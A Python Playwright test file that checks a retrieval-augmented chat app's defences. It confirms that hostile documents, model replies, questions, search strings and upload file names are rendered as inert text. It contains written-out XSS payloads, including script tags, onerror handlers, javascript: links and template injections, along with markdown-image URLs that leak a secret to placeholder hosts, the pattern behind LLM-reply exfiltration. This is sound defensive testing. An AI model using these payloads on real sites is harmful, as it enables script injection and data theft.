"""Documents and models that mean harm: nothing of theirs runs, nothing leaves."""

from playwright.sync_api import expect

from rag.retrieving.rewriting import SYSTEM
from tests.browser.conftest import HOSTILE_NAME
from tests.browser.gate import Gate
from tests.browser.reader import Reader

OWNED = "window.owned"
HOSTILE_REPLY = """The password is osprey [1], say the keepers [9][12].
![leak](http://127.0.0.1:1/x.png?q=osprey) ![leak][ref] <img src="http://127.0.0.1:1/z.png" onerror="window.owned=10">
<script>window.owned=11</script> <a href="https://elsewhere.example/?q=osprey">raw link</a> <iframe src="https://elsewhere.example"></iframe>
[a link](https://elsewhere.example/?q=osprey) [trap](javascript:window.owned=12) <https://elsewhere.example> https://elsewhere.example/bare
[false footnote](#src-1) <a href="#src-1">7</a> <style>body{display:none}</style> ${window.owned=13} [1](https://elsewhere.example/number)

[ref]: http://127.0.0.1:1/y.png

```html
<img src=http://127.0.0.1:1/code.png onerror=window.owned=14>
```
"""


def test_a_hostile_document_is_shown_as_the_words_it_has(quoted: Reader) -> None:
    row = quoted.row(HOSTILE_NAME)
    expect(row).to_have_count(1)
    answer = quoted.ask("What is the password of the lighthouse?")
    assert "The password of the lighthouse is osprey." in answer
    assert HOSTILE_NAME in answer
    quoted.open_footnote(1)

    expect(quoted.source.locator(".fn-source-head b")).to_have_text(HOSTILE_NAME)
    expect(quoted.source.locator(".fn-text")).to_contain_text("<script>window.owned=4</script> ${window.owned=5} {{window.owned=6}}")
    expect(quoted.page.locator("#source-view :is(img, script, svg, h1), #documents img, #chat [data-testid=bot] img")).to_have_count(0)
    quoted.open_menu(HOSTILE_NAME)  # its name is in the label, too
    row.locator("[data-ask-remove]").click()
    row.get_by_role("button", name="Keep").click()
    assert quoted.page.evaluate(OWNED) is None
    original = quoted.page.request.get(f"{quoted.url}/{quoted.source.get_by_role('link').get_attribute('href')}")
    assert original.headers["content-type"].startswith("text/plain")


def test_a_hostile_answer_loads_nothing_links_nowhere_and_invents_no_footnote(reader: Reader, gate: Gate) -> None:
    gate.chat.reply = lambda _: HOSTILE_REPLY
    answer = reader.ask("What is the password of the lighthouse?")

    assert "The password is osprey" in answer
    assert "[9]" not in answer
    assert "[12]" not in answer
    said = reader.answer.locator(".md")
    expect(said.locator("img, script, iframe, style, object, form")).to_have_count(0)
    links = said.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert set(said.locator(".fn-body a").all_inner_texts()) == {"1"}
    assert all(address.startswith("#src-") and address != "#src-1" for address in links)
    reader.open_footnote(1)
    assert reader.page.evaluate(OWNED) is None


def test_what_gets_into_the_page_all_the_same_does_not_run(reader: Reader) -> None:
    reader.page.evaluate("""() => {
        const script = document.createElement('script');
        script.textContent = 'window.owned = 40';
        const image = document.createElement('img');
        image.setAttribute('onerror', 'window.owned = 41');
        image.src = 'data:,';
        document.body.append(script, image);
        setTimeout('window.owned = 42');
    }""")
    expect(reader.page.locator("img[onerror]")).to_have_count(1)
    reader.page.wait_for_timeout(100)
    assert reader.page.evaluate(OWNED) is None
    refused = [said for said in reader.watch.complaints if "Content Security Policy" in said]
    assert len(refused) == 3
    reader.watch.complaints.clear()


def test_a_hostile_question_is_shown_as_it_was_typed(reader: Reader) -> None:
    question = "<img src=http://127.0.0.1:1/q.png onerror=window.owned=20> ![x](http://127.0.0.1:1/q.png) **bold** ${window.owned=21}"
    reader.ask(question)

    expect(reader.page.locator("#chat [data-testid=user]")).to_have_text(question)
    expect(reader.page.locator("#chat [data-testid=user] img")).to_have_count(0)
    assert reader.page.evaluate(OWNED) is None


def test_a_hostile_search_is_shown_as_words(reader: Reader, gate: Gate) -> None:
    searched = (
        "teak </span></p><script>window.owned=true</script> <img src=x onerror=window.owned=true> **bold** ![x](y.png) [out](z) "
        "${window.owned=true} {{window.owned=true}} &lt;b&gt;"
    )
    gate.chat.reply = lambda messages: searched if messages[0]["content"] == SYSTEM else "So it is [1]."
    reader.ask("How fast may I cut teak?")
    reader.ask("And pine?")

    expect(reader.searched).to_have_text(f"Searched for “{searched}”")
    expect(reader.answer.locator(".fn-searched :is(img, script, a, b, strong, em)")).to_have_count(0)
    assert reader.page.evaluate(OWNED) is None


def test_a_hostile_name_survives_an_upload_harmlessly(quoted: Reader) -> None:
    quoted.upload({"<b onmouseover=window.owned=30>bold ${window.owned=31}.txt": b"Some words of peace."})
    row = quoted.page.locator("#documents li").filter(has_text="bold")
    expect(row.locator("[data-open]")).to_have_count(1)
    row.hover()

    expect(row.locator("b")).to_have_count(0)
    assert quoted.page.evaluate(OWNED) is None
